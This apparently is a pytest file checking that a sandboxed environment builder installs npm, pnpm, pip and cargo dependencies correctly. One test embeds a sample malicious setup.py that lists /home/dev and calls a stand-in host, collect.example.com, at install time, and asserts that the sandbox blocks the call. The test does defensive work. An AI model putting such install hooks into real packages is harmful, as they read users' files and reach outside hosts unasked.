"""Packages really installed through our own way out, with the clients of this machine."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from jobs.git.mirror import Mirror
from jobs.git.workspace import Workspace
from jobs.sandbox.box import Sandbox
from jobs.setup.config import RepoConfig
from jobs.setup.detect import Wanted, detect_setup
from jobs.setup.environment import Builder, Environment, SetupFailed
from jobs.setup.indexes import host_indexes
from jobs.setup.source import AtCommit
from tests.jobs.setup.test_environment import _repository

HERE = {
    "package.json": '{"name": "x", "dependencies": {"left": "file:./left"}}',
    "left/package.json": '{"name": "left", "version": "1.0.0", "main": "index.js"}',
    "left/index.js": "module.exports = 41;\n",
}


def _built(folder: Path, files: dict[str, str], **more: object) -> tuple[Mirror, str, Environment]:
    mirror, commit = _repository(folder, files)
    plan = detect_setup(AtCommit(mirror, commit), RepoConfig(), pytest_wanted=False, **more)  # type: ignore[arg-type]
    return mirror, commit, Builder(mirror, host_indexes(os.environ)).prepare(plan, commit)


def _says(mirror: Mirror, commit: str, environment: Environment, command: str) -> str:
    workspace = Workspace(mirror, "k3x9q2ab")
    workspace.open(commit)
    box = Sandbox(workspace.tree, workspace.scratch, mounts=environment.mounts, env=environment.env)
    try:
        return box.run(command, timeout=100).output
    finally:
        box.close()


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_npm_installs_a_package_of_the_repository_itself(tmp_path: Path):
    mirror, commit, environment = _built(tmp_path, HERE)
    assert environment.kind == "npm"
    assert _says(mirror, commit, environment, "node -p 'require(\"left\") + 1'") == "42\n"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_npm_installs_a_package_of_the_registry(tmp_path: Path):
    files = {"package.json": '{"name": "x", "dependencies": {"is-number": "7.0.0"}}'}
    mirror, commit, environment = _built(tmp_path, files)
    assert _says(mirror, commit, environment, "node -p 'require(\"is-number\")(5)'") == "true\n"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_pnpm_is_fetched_where_the_machine_has_none(tmp_path: Path):
    files = {"package.json": '{"name": "x", "packageManager": "pnpm@9.15.0", "dependencies": {"is-number": "7.0.0"}}'}
    mirror, commit, environment = _built(tmp_path, files)
    assert environment.kind == "pnpm"
    assert _says(mirror, commit, environment, "node -p 'require(\"is-number\")(5)'") == "true\n"


@pytest.mark.slow
def test_an_approved_package_is_there_though_no_file_names_it(tmp_path: Path):
    mirror, commit, environment = _built(tmp_path, {"a.py": ""}, wanted=[Wanted("six", "==1.17.0")])
    assert _says(mirror, commit, environment, "python -c 'import six; print(six.__version__)'") == "1.17.0\n"


@pytest.mark.slow
def test_abu_33_what_runs_at_the_installation_reaches_nothing(tmp_path: Path):
    script = "import urllib.request as u, os\nos.listdir('/home/dev')\nu.urlopen('https://collect.example.com/')\n"
    files = {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
        "setup.py": script,
    }
    with pytest.raises(SetupFailed) as failed:
        _built(tmp_path, files)
    assert failed.value.diagnosis.what == "collect.example.com" and failed.value.refused == ("collect.example.com",)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("cargo") is None, reason="cargo is not installed")
def test_cargo_works_without_dependencies_and_without_network(tmp_path: Path):
    files = {
        "Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\nedition = "2021"\n',
        "src/lib.rs": "#[test]\nfn two() { assert_eq!(1 + 1, 2); }\n",
    }
    mirror, commit, environment = _built(tmp_path, files)
    assert environment.kind == "cargo"
    assert "1 passed" in _says(mirror, commit, environment, "cargo test 2>&1")
